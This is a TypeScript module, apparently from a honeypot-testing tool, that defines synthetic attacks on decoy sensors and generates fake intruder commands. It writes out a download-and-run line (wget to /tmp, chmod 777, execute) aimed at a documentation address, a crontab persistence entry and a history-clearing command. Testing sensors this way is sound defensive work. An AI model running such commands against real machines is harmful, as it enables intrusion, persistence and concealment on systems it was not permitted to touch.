import type { SyntheticTarget } from '@eviltwin/contract'

/** One attack, as its client makes it. */
export interface Attack {
  target: SyntheticTarget
  /** Proves to ingest that it is ours; it has to be in the first text that the sensor records. */
  marker: string
  /** When it has to end. */
  deadline: AbortSignal
  /** RFC 3339. */
  now: string
}

/** Attacks over one protocol. Rejects with what kept it from the end, in words that an operator reads. */
export type AttackClient = (attack: Attack) => Promise<void>

/** Where a sensor is, as it may be connected to. */
export interface SensorAddress {
  address: string
  port: number
  /** As it was registered: a name or an address. */
  host: string
  /** The address of this host to connect from; unset: the one that the system chooses. */
  from?: string
  /** A password that the sensor is known to accept; unset: none is known, and the marker is tried alone. */
  password?: string
}

/** Attacks a sensor over one protocol. Rejects as above; a login that is refused ends the attack and is no failure of it. */
export type SensorAttack = (
  where: SensorAddress,
  attack: Pick<Attack, 'marker' | 'deadline'>,
) => Promise<void>

/**
 * Logins of one connection, that with the marker among them: OpenSSH refuses the sixth (MaxAuthTries), and our decoys accept none before the
 * second to the fifth.
 */
export const MAX_LOGINS = 5

/** What an intruder does who gets a shell: it has to score high. Nothing of it is ever executed: the sensor is a decoy. */
export function intrusionCommands(marker: string): string[] {
  return [downloadCommand(marker), '(crontab -l; echo "*/5 * * * * /tmp/.x") | crontab -', 'history -c']
}

/** Fetches a program from a documentation address (RFC 5737), where there is none, and runs it. */
export function downloadCommand(marker: string): string {
  return `cd /tmp && wget http://192.0.2.66/${marker} -O .x && chmod 777 .x && ./.x`
}
